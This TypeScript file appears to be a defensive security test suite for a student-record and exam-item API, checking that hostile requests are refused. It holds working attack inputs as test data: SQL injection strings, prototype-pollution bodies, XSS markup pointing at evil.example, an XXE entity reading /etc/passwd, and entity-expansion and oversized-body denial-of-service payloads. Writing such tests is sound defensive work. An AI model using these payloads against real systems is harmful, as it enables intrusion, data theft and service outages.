/** Bodies, parameters and documents that nobody means. */
import { generate } from '../story/network.ts';
import type { Attack } from './attack.ts';
import { noFault, otherThan, refused, type Door } from './door.ts';

const school = generate().centres[0]!.schools[0]!.code;
const learner = { familyName: 'Attaque', givenName: 'Une', birthDate: '2015-05-05', permanentCode: 'ATTU05051599' };
const bySource = `/student-record/v1/organisations/${school}/learners/by-source/attack`;

const sql = ["' or 1=1 --", "'; select pg_sleep(5) --", '1) union select null --', '\\'];
const item = (content: string, before = '') =>
  `${before}<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p2" xmlns:x="urn:x" identifier="attack" title="t" adaptive="false" timeDependent="false">
  <responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier"><correctResponse><value>B</value></correctResponse></responseDeclaration>
  <itemBody>${content}<choiceInteraction responseIdentifier="RESPONSE" shuffle="false" maxChoices="1"><simpleChoice identifier="A">a</simpleChoice><simpleChoice identifier="B">b</simpleChoice></choiceInteraction></itemBody></assessmentItem>`;

export const shapes = (on: Door): readonly Attack[] => [
  {
    id: '§2',
    fr: 'des champs que l’on ne donne pas soi-même',
    en: 'fields that nobody gives oneself',
    expected: '400',
    async run() {
      const token = await on.token('demo-sis');
      const fields = [
        'id',
        'organisationId',
        'visibleTo',
        'unified',
        'version',
        'createdAt',
        'source',
        'role',
        'org',
        'scope',
        'purpose',
        'sandbox',
        'constructor',
        '__proto__x',
        'toString',
        'endedAt',
      ];
      return otherThan(
        [400],
        fields.map((field) => [
          field,
          () => on.ask(bySource, { method: 'PUT', token, json: { ...learner, [field]: true } }),
        ]),
      );
    },
  },
  {
    id: '§2',
    fr: 'polluer les prototypes, par le corps et par l’adresse',
    en: 'pollute prototypes, by the body and the address',
    expected: '400; < 500',
    async run() {
      const token = await on.token('demo-sis');
      const headers = { 'content-type': 'application/json' };
      const put = (body: string) => () => on.ask(bySource, { method: 'PUT', token, headers, body });
      const bodies = [
        '{"__proto__":{"scope":"operations"}}',
        '{"constructor":{"prototype":{"scope":"operations"}}}',
        '{"familyName":{"__proto__":{"x":1}}}',
        '{"\\u005f_proto__":{"x":1}}',
        '{"prototype":{"x":1}}',
      ];
      const queries = [
        '__proto__[x]=1',
        '__proto__.x=1',
        'constructor[prototype][x]=1',
        'limit[__proto__]=1',
        'limit=1&limit=2',
        'toString=1',
      ];
      const list = (query: string) => () => on.ask(`/student-record/v1/organisations?${query}`, { token });
      return [
        ...(await otherThan(
          [400],
          bodies.map((body) => [body, put(body)]),
        )),
        ...(await otherThan(
          noFault,
          queries.map((query) => [query, list(query)]),
        )),
      ];
    },
  },
  {
    id: '§2',
    fr: 'du SQL dans chaque paramètre de chaque lecture',
    en: 'SQL in each parameter of each read',
    expected: '< 500, < 4 s',
    async run(say) {
      const token = await on.token('demo-ministry');
      const reads = (await on.operations()).filter(({ method }) => method === 'GET');
      const addresses = reads.flatMap(({ path, query }) => [
        ...query.flatMap((name) => sql.map((text) => `${path}?${name}=${encodeURIComponent(text)}`)),
        path.replace('00000000-0000-4000-8000-000000000000', encodeURIComponent(sql[0]!)),
      ]);
      let n = 0;
      return otherThan(
        noFault,
        addresses.map((address) => [
          address,
          async () => {
            say(`${(n += 1)} / ${addresses.length}`);
            const begun = performance.now();
            const answer = await on.ask(address, { token });
            if (performance.now() - begun > 4_000) throw new Error('> 4 s');
            return answer;
          },
        ]),
      );
    },
  },
  {
    id: '§2',
    fr: 'des curseurs falsifiés, à chaque liste',
    en: 'tampered cursors, to each list',
    expected: '4xx',
    async run() {
      const token = await on.token('demo-ministry');
      const lists = (await on.operations()).filter(({ method, query }) => method === 'GET' && query.includes('cursor'));
      const cursors = [
        'x',
        'e30',
        'W10',
        'bnVsbA',
        '%00',
        btoa('{"__proto__":1}'),
        btoa('["\' or 1=1"]'),
        'a'.repeat(2_000),
        btoa('[1e999]'),
        '..%2f..',
      ];
      return otherThan(
        refused,
        lists.flatMap(({ path }) =>
          cursors.map(
            (cursor) =>
              [`${path} ${cursor.slice(0, 20)}`, () => on.ask(`${path}?cursor=${cursor}`, { token })] as const,
          ),
        ),
      );
    },
  },
  {
    id: '§2',
    fr: 'une version que l’on n’a pas lue (If-Match)',
    en: 'a version that one has not read (If-Match)',
    expected: '400, 412, 428',
    async run() {
      const token = await on.token('demo-ministry');
      const path = '/student-record/v1/organisations/css-des-deux-rives';
      const { json } = await on.ask(path, { token });
      const { name, kind } = json;
      const forms = [
        '"0"',
        '"999999"',
        'W/"1"',
        '""',
        "'1'",
        '"1\' or 1=1"',
        'null',
        '"1e0"',
        '"-1"',
        '"01"',
        '"9999999999999999999999"',
      ];
      return otherThan(
        [400, 412, 428],
        forms.map((form) => [
          form,
          () => on.ask(path, { method: 'PUT', token, headers: { 'if-match': form }, json: { name, kind } }),
        ]),
      );
    },
  },
  {
    id: '§2',
    fr: 'du JSON mal fait : niveaux, clés doubles, NUL, demi-caractères, 1e999, encodages',
    en: 'JSON ill made: levels, double keys, NUL, half characters, 1e999, encodings',
    expected: '4xx, < 1 s',
    async run() {
      const token = await on.token('demo-sis');
      const send =
        (body: string | Buffer, type = 'application/json') =>
        async () => {
          const begun = performance.now();
          const answer = await on.ask('/student-record/v1/changes', {
            method: 'POST',
            token,
            headers: { 'content-type': type },
            body,
          });
          if (performance.now() - begun > 1_000) throw new Error('> 1 s');
          return answer;
        };
      const forms: Record<string, string | Buffer> = {
        deep: '['.repeat(500_000),
        '1 MB': JSON.stringify({ items: 'x'.repeat(1_048_000) }),
        '2 MB': JSON.stringify({ items: 'x'.repeat(2_000_000) }),
        'double keys': '{"items":[],"items":{}}',
        NUL: '{"items":[{"kind":"learner\\u0000"}]}',
        'half surrogate': '{"items":[{"kind":"\\ud800"}]}',
        '1e999': '{"items":1e999}',
        comment: '{/* */"items":[]}',
        'trailing comma': '{"items":[],}',
        NaN: '{"items":NaN}',
        'not UTF-8': Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]),
        empty: '',
        text: '"items"',
        list: '[]',
        null: 'null',
      };
      const types = [
        'text/plain',
        'application/xml',
        'multipart/form-data; boundary=x',
        'application/json; charset=utf-7',
        'application/zip',
        'application/x-www-form-urlencoded',
        'x',
      ];
      return otherThan(refused, [
        ...Object.entries(forms).map(([name, body]) => [name, send(body)] as const),
        ...types.map((type) => [type, send('{"items":[]}', type)] as const),
      ]);
    },
  },
  {
    id: 'M9',
    fr: 'un item qui montre son corrigé ou exécute ce qu’il veut',
    en: 'an item that shows its key or runs what it likes',
    expected: '4xx, or named',
    async run() {
      const token = await on.token('demo-ministry');
      const contents = [
        '<iframe src="javascript:KEY"/>',
        '<object data="data:text/html,KEY"/>',
        '<embed src="KEY"/>',
        '<p><a href="javascript:KEY()">l</a></p>',
        '<base href="https://evil.example/"/>',
        '<form action="https://evil.example/"><p>KEY</p></form>',
        '<x:key>B</x:key>',
        '<p onclick="KEY()">p</p>',
        '<SCRIPT>KEY</SCRIPT>',
        '<script>KEY</script>',
        '<math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mi>x</mi><annotation>B</annotation></semantics></math>',
      ];
      const send = (body: string) => () =>
        on.ask('/exam-management/v1/items', {
          method: 'POST',
          token,
          headers: { 'content-type': 'application/xml' },
          body,
        });
      return otherThan(
        (answer) => refused(answer) || answer.text.includes('content-not-shown'),
        contents.map((content) => [content, send(item(content))]),
      );
    },
  },
  {
    id: '§2',
    fr: 'un item à entités ou à DTD, d’ici ou d’ailleurs',
    en: 'an item with entities or a DTD, from here or elsewhere',
    expected: '4xx',
    async run() {
      const token = await on.token('demo-ministry');
      const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
      const documents = {
        laughs: item('<p>&l9;</p>', `<!DOCTYPE a [<!ENTITY l0 "l">${laughs}]>`),
        XXE: item('<p>&x;</p>', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        'external DTD': item('', '<!DOCTYPE a SYSTEM "http://127.0.0.1:7101/x.dtd">'),
        'after a comment': item('', '<!-- c --><?x y?>\n<!DOCTYPE a [<!ENTITY x "y">]>'),
        'lower case': item('', '<!doctype a>'),
        deep: item('<div>'.repeat(100_000)),
      };
      const send = (body: string | Buffer) => () =>
        on.ask('/exam-management/v1/items', {
          method: 'POST',
          token,
          headers: { 'content-type': 'application/xml' },
          body,
        });
      return otherThan(refused, [
        ...Object.entries(documents).map(([name, body]) => [name, send(body)] as const),
        ['UTF-16', send(Buffer.from(`\ufeff${documents.XXE}`, 'utf16le'))] as const,
      ]);
    },
  },
];
